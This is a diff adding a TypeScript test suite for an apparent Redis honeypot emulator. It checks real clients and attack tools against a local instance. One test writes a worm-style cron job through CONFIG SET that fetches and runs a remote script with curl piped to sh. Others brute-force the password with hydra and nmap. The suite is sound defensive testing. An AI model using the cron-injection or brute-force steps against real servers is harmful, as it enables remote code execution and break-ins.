@@ -1,0 +1,149 @@
+import assert from 'node:assert/strict'
+import { spawnSync } from 'node:child_process'
+import fs from 'node:fs'
+import os from 'node:os'
+import path from 'node:path'
+import { after, before, describe, test } from 'node:test'
+import type { Event } from '#events/event.ts'
+import { missing, runClient, type Skep, startSkep } from '../skep.ts'
+
+type Login = Event & { user?: { name: string }; skep: { login: { password?: string; method: string } } }
+const ofAction = (action: string) => (event: Event) => event.skep.service === 'redis' && event.event.action === action
+const commandLine = (line: string) => (event: Event) =>
+  ofAction('command')(event) && (event as { process?: { command_line?: string } }).process?.command_line === line
+
+const python = ['/usr/bin/python3', 'python3'].find(program => spawnSync(program, ['-c', 'import redis']).status === 0)
+
+describe('Redis, with real clients', () => {
+  let skep: Skep
+  let port: string
+  before(async () => {
+    skep = await startSkep({ config: 'persona: { os: debian-12 }\n' })
+    port = String(skep.port('redis'))
+  })
+  after(() => skep?.stop())
+  const cli = async (args: string[], input = '', seconds = 60) =>
+    (await runClient('redis-cli', ['-h', '127.0.0.1', '-p', port, ...args], { input, seconds })).out
+
+  describe('redis-cli', { skip: missing('redis-cli') }, () => {
+    test('sets, gets and is recorded', async () => {
+      assert.equal(await cli(['SET', 'greeting', 'hello there']), 'OK\n')
+      assert.equal(await cli(['GET', 'greeting']), 'hello there\n')
+      await skep.eventually(commandLine('SET greeting "hello there"'))
+    })
+    test('takes a script of commands, in RESP3 too', async () => {
+      const script = 'HSET h a 1 b 2\nHGETALL h\nZADD z 1.5 m\nZSCORE z m\nNOPE\n'
+      assert.equal(
+        await cli([], script),
+        "2\na\n1\nb\n2\n1\n1.5\nERR unknown command 'NOPE', with args beginning with: \n\n",
+      )
+      assert.match(await cli(['-3', '--no-raw', 'HGETALL', 'h']), /1# "a" => "1"/)
+    })
+    test('walks through the keys', async () => {
+      for (let i = 0; i < 40; i++) await cli(['SET', `walk:${i}`, 'x'])
+      const found = (await cli(['--scan', '--pattern', 'walk:*'])).trim().split('\n')
+      assert.equal(new Set(found).size, 40)
+      const report = await cli(['--bigkeys'])
+      assert.match(report, /Sampled \d+ keys in the keyspace!/)
+      assert.match(report, /Biggest\s+string found '"/)
+      assert.match(await cli(['--memkeys']), /Sampled \d+ keys/)
+    })
+    test('watches with MONITOR, and reads INFO', async () => {
+      const watched = await cli([], 'MONITOR\n', 2)
+      assert.match(watched, /^OK/)
+      const info = await cli(['INFO', 'server'])
+      assert.match(info, /redis_version:7\.0\.15\r\n/)
+      assert.doesNotMatch(info, /honey|skep/i)
+    })
+    test('pipes a mass of commands', async () => {
+      const one = (i: number) => `*3\r\n$3\r\nSET\r\n$${`pipe:${i}`.length}\r\npipe:${i}\r\n$1\r\nv\r\n`
+      const out = await cli(['--pipe'], Array.from({ length: 2000 }, (_, i) => one(i)).join(''))
+      assert.match(out, /errors: 0, replies: 2000/)
+    })
+    test('leaves a cron job the way worms do, which is kept as a sample', async () => {
+      await cli([], 'CONFIG SET dir /var/spool/cron\nCONFIG SET dbfilename root\n')
+      await cli(['-x', 'SET', 'job'], '\n\n* * * * * curl -fsSL http://192.0.2.66/x.sh | sh\n\n')
+      assert.equal(await cli(['SAVE']), 'OK\n')
+      await skep.eventually(ofAction('file-upload'))
+      await skep.eventually(ofAction('exploit'))
+    })
+  })
+
+  test('redis-benchmark runs through', { skip: missing('redis-benchmark') }, async () => {
+    const tests =
+      'ping_inline,ping_mbulk,set,get,incr,lpush,rpush,lpop,rpop,sadd,hset,spop,zadd,zpopmin,lrange_100,mset'
+    const { out, err, status } = await runClient(
+      'redis-benchmark',
+      ['-h', '127.0.0.1', '-p', port, '-n', '300', '-c', '10', '-q', '-t', tests],
+      { seconds: 100 },
+    )
+    assert.equal(status, 0, err)
+    assert.doesNotMatch(out + err, /error/i)
+    assert.ok((out.match(/requests per second/g)?.length ?? 0) >= 16, out)
+  })
+
+  describe('behind a password', () => {
+    const home = fs.mkdtempSync(path.join(os.tmpdir(), 'redis-words-'))
+    const list = path.join(home, 'words')
+    let closed: Skep
+    before(async () => {
+      fs.writeFileSync(list, 'alpha\nbeta\ns3cr3t\n')
+      closed = await startSkep({ config: 'services: { redis: { password: s3cr3t } }\n' })
+    })
+    after(async () => {
+      await closed?.stop()
+      fs.rmSync(home, { recursive: true })
+    })
+    const tried = async (count: number) => {
+      const logins = (await closed.eventually(ofAction('login'), count)) as Login[]
+      return new Set(logins.map(event => event.skep.login.password))
+    }
+
+    test('hydra finds it, and each guess is recorded', { skip: missing('hydra') }, async () => {
+      const args = ['-P', list, '-t', '1', '-I', '-s', String(closed.port('redis')), '127.0.0.1', 'redis']
+      const { out } = await runClient('hydra', args)
+      assert.match(out, /\[redis\] host: 127\.0\.0\.1 +password: s3cr3t/)
+      const passwords = await tried(3)
+      for (const word of ['alpha', 'beta', 's3cr3t']) assert.ok(passwords.has(word), word)
+    })
+    test('so does nmap', { skip: missing('nmap') }, async () => {
+      const args = ['-Pn', '-n', '-sV', '-p', String(closed.port('redis')), '--script', 'redis-brute', '127.0.0.1']
+      const { out } = await runClient('nmap', [...args, '--script-args', `passdb=${list}`], { seconds: 120 })
+      assert.match(out, /redis-brute:[\s\S]*s3cr3t - Valid credentials/)
+    })
+  })
+
+  test('nmap names product and version, and its scripts see a server', { skip: missing('nmap') }, async () => {
+    const { out } = await runClient('nmap', ['-Pn', '-n', '-sV', '-p', port, '--script', 'redis-info', '127.0.0.1'], {
+      seconds: 150,
+    })
+    assert.match(out, /open +redis +Redis key-value store 7\.0\.15/)
+    assert.match(out, /redis-info:[\s\S]*Version: 7\.0\.15[\s\S]*Operating System: Linux 6\./)
+    assert.doesNotMatch(out, /honey|skep/i)
+  })
+
+  test('the library of Python', { skip: python ? false : 'python3-redis not installed' }, async () => {
+    const program = `
+import redis
+r = redis.Redis('127.0.0.1', ${port}, decode_responses=True)
+assert r.ping()
+assert r.set('py', 'v', ex=100) and r.get('py') == 'v' and 0 < r.ttl('py') <= 100
+r.hset('pyh', mapping={'a': 1, 'b': 2}); assert r.hgetall('pyh') == {'a': '1', 'b': '2'}
+r.delete('pyl'); r.rpush('pyl', 1, 2, 3); assert r.lrange('pyl', 0, -1) == ['1', '2', '3']
+r.zadd('pyz', {'m': 1.5}); assert r.zrange('pyz', 0, -1, withscores=True) == [('m', 1.5)]
+r.sadd('pys', 'x', 'y'); assert r.smembers('pys') == {'x', 'y'}
+with r.pipeline() as p:
+    p.multi(); p.incr('pyn'); p.incr('pyn'); assert p.execute()[1] - 1 >= 1
+assert r.info()['redis_version'] == '7.0.15'
+assert r.config_get('dbfilename') and r.client_list()[0]['cmd'].startswith('client')
+p = r.pubsub(); p.subscribe('c'); assert p.get_message(timeout=5)['type'] == 'subscribe'
+assert r.eval('return ARGV[1]', 0, 'hi') == 'hi'
+try:
+    r.execute_command('NOPE'); raise SystemExit('no error')
+except redis.ResponseError as e: assert str(e).startswith("unknown command 'NOPE'"), e
+print('fine')
+`
+    const { out, err } = await runClient(python!, ['-c', program])
+    assert.equal(out, 'fine\n', err)
+  })
+})
